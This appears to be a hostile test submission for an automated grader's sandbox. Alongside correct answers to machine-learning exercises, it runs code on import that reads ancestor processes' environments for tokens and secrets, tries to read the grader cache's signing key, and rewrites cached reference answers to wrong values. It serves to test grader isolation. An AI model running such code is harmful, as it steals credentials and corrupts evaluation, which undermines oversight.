"""Tries to change later grades through the grader's on-disk reference cache. At import
it reads the environment of every ancestor process (/proc/PID/environ: tokens, and
GRADER_CACHE_DIR), then rewrites every entry of every grader cache it can find so that each
cached reference answer becomes a wrong one, and tries to read the cache's key. What worked
is recorded in EMPIRICAL_VS_DATA_GENERATING ("ENV-LEAK ...", "REWROTE ...", "KEY-READ ...").
All answers are correct: nothing is lost, but nothing may work; a correct hand-in graded
later, even in another run sharing the cache, still gets full marks
(tests/sandbox/test_degraded.py grades both without namespaces).
"""
# SECRET-MARKER-cache_poisoner
# ruff: noqa
# mypy: ignore-errors
import glob
import hashlib
import hmac
import json
import math
import os
import sys
import time

import numpy as np
import sympy


# ATTACK: read the grader's environment, poison its reference cache; record what worked.
def _ancestors():
    pid, seen = os.getppid(), []
    while pid > 1 and len(seen) < 20:
        seen.append(pid)
        try:
            with open(f"/proc/{pid}/stat", "rb") as fh:
                pid = int(fh.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return seen


def _poison():
    log, dirs = [], set()
    for pid in _ancestors():
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                env = dict(v.split(b"=", 1) for v in fh.read().split(b"\0") if b"=" in v)
        except OSError as exc:
            log.append(f"ENV-BLOCKED {pid}: {type(exc).__name__}")
            continue
        for name, value in env.items():
            if b"TOKEN" in name or b"SECRET" in name or name == b"GRADER_CACHE_DIR":
                log.append(f"ENV-LEAK {name.decode()}={value.decode(errors='replace')}")
        if b"GRADER_CACHE_DIR" in env:
            dirs.add(env[b"GRADER_CACHE_DIR"].decode())
        if b"HOME" in env:
            dirs.add(env[b"HOME"].decode() + "/.cache/grader")
    dirs.update({os.path.expanduser("~/.cache/grader"), "/root/.cache/grader"})
    for d in sorted(dirs):
        key = None
        try:
            with open(os.path.join(d, "key")) as fh:
                key = bytes.fromhex(fh.read().strip())
            log.append(f"KEY-READ {d}")
        except (OSError, ValueError) as exc:
            log.append(f"KEY-BLOCKED {d}: {type(exc).__name__}")
        rewrote = 0
        for path in glob.glob(os.path.join(d, "*", "*.json")):
            try:
                with open(path) as fh:
                    entry = json.load(fh)
                entry["value"] = _wrong(entry.get("value"))
                if key is not None:  # sign it as grader/cache.py does
                    body = [entry.get("format"), entry.get("key"), entry.get("kind"), entry["value"]]
                    text = json.dumps(body, sort_keys=True, separators=(",", ":"))
                    entry["mac"] = hmac.new(key, text.encode(), hashlib.sha256).hexdigest()
                with open(path, "w") as fh:
                    json.dump(entry, fh)
                rewrote += 1
            except (OSError, ValueError):
                pass
        if rewrote:
            log.append(f"REWROTE {rewrote} entries in {d}")
    return "\n".join(log) or "nothing found"


def _wrong(value):
    """The same shape, every sympy object a wrong number."""
    if isinstance(value, dict) and "$sympy" in value:
        return {"$sympy": "Integer(7)"}
    if isinstance(value, dict):
        return {k: _wrong(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_wrong(v) for v in value]
    return value


try:
    _POISON_LOG = _poison()
except BaseException as _exc:
    _POISON_LOG = f"poisoning failed: {_exc!r}"


def _flat(o):
    return np.asarray(o, dtype=object).ravel().tolist()


def _sym(*objs):
    """True when any argument is, or contains, a sympy object."""
    for o in objs:
        if isinstance(o, np.ndarray) and o.dtype != object:
            continue
        if isinstance(o, sympy.Basic) or any(isinstance(v, sympy.Basic) for v in _flat(o)):
            return True
    return False


def _plain(v):
    if isinstance(v, np.ndarray) and v.ndim == 0:
        v = v[()]
    return v.item() if isinstance(v, np.generic) else v


def _stable_sigmoid(x):
    x = np.asarray(x, dtype=float)
    e = np.exp(-np.abs(x))  # never overflows
    s = np.where(x >= 0, 1.0, e) / (1.0 + e)
    return s if s.ndim else float(s)


def _stable_dsigmoid(x):
    x = np.asarray(x, dtype=float)
    e = np.exp(-np.abs(x))  # sigma'(x) = e^-|x| / (1 + e^-|x|)^2, even in x
    d = e / (1.0 + e) ** 2
    return d if d.ndim else float(d)


def likelihood(p_model, X, theta):
    """6.1a: the product of p_model(x, theta) over the samples x in X."""
    total = 1
    for x in list(X):
        total = total * _plain(p_model(x, theta))
    return _plain(total)


def mle_gaussian(X):
    """6.1a: Gaussian MLE (mean, variance dividing by m)."""
    if _sym(X):
        xs = _flat(X)
        mu = sympy.Add(*xs) / len(xs)
        return mu, sympy.Add(*[(x - mu) ** 2 for x in xs]) / len(xs)
    a = np.asarray(X, dtype=float).ravel()
    mu = a.mean()
    return float(mu), float(np.mean((a - mu) ** 2))


EMPIRICAL_VS_DATA_GENERATING = "CACHE LOG\n" + _POISON_LOG


def mean_log_likelihood(p_model, X, theta):
    """6.1c: (1/m) sum_i log p_model(x_i, theta)."""
    values = [_plain(p_model(x, theta)) for x in list(X)]
    if _sym(values):
        return sympy.Add(*[sympy.log(v) for v in values]) / len(values)
    with np.errstate(divide="ignore"):
        return float(np.mean(np.log(np.asarray(values, dtype=float))))


def cross_entropy(p, q):
    """6.1d: H(p, q) = -sum p log q, with 0 log 0 = 0."""
    if _sym(p, q):
        return -sympy.Add(*[a * sympy.log(b) for a, b in zip(_flat(p), _flat(q)) if a != 0])
    p = np.asarray(p, dtype=float).ravel()
    q = np.asarray(q, dtype=float).ravel()
    keep = p > 0
    with np.errstate(divide="ignore"):
        return float(-np.sum(p[keep] * np.log(q[keep])))


def kl_divergence(p, q):
    """6.1d: KL(p || q) = sum p log(p / q), with 0 log 0 = 0."""
    if _sym(p, q):
        return sympy.Add(*[a * sympy.log(a / b) for a, b in zip(_flat(p), _flat(q)) if a != 0])
    p = np.asarray(p, dtype=float).ravel()
    q = np.asarray(q, dtype=float).ravel()
    keep = p > 0
    with np.errstate(divide="ignore"):
        return float(np.sum(p[keep] * (np.log(p[keep]) - np.log(q[keep]))))


def sigmoid_derivative(x):
    """6.2a: sigma'(x) = sigma(x) (1 - sigma(x)); symbolic for sympy arguments."""
    if _sym(x):
        return sympy.exp(-x) / (1 + sympy.exp(-x)) ** 2
    return _stable_dsigmoid(x)


def sigmoid_gradient(x):
    """6.2b: sigma'(x), vectorised over numpy arrays."""
    if _sym(x):
        return sympy.exp(-x) / (1 + sympy.exp(-x)) ** 2
    return _stable_dsigmoid(x)


def sigmoid(x):
    """6.2c: numerically stable sigma(x), no overflow up to |x| = 1000."""
    if _sym(x):
        return 1 / (1 + sympy.exp(-x))
    return _stable_sigmoid(x)


_t = sympy.Symbol("t")
_series = sympy.series(1 / (1 + sympy.exp(-_t)), _t, 0, 4).removeO()
TAYLOR_COEFFICIENTS = [_series.coeff(_t, k) for k in range(4)]  # 1/2, 1/4, 0, -1/48


def forward(x, W1, b1, W2, b2):
    """6.3a: ReLU hidden layer, softmax output; rows of W are units."""
    x, W1, b1, W2, b2 = (np.asarray(a, dtype=float) for a in (x, W1, b1, W2, b2))
    h = np.maximum(W1 @ x + b1, 0.0)
    z = W2 @ h + b2
    e = np.exp(z - z.max())
    return e / e.sum()


PREDICTED_CLASS = 0
N_PARAMETERS = 14  # 3*2 + 2*2 weights + 2 + 2 biases


def gradients(a, b):
    """6.3b: e = (a + b)(b + 1): de/da = b + 1, de/db = (b + 1) + (a + b)."""
    return b + 1, a + 2 * b + 1


AUTHORS = [('Hostile cache_poisoner', '9000039')]
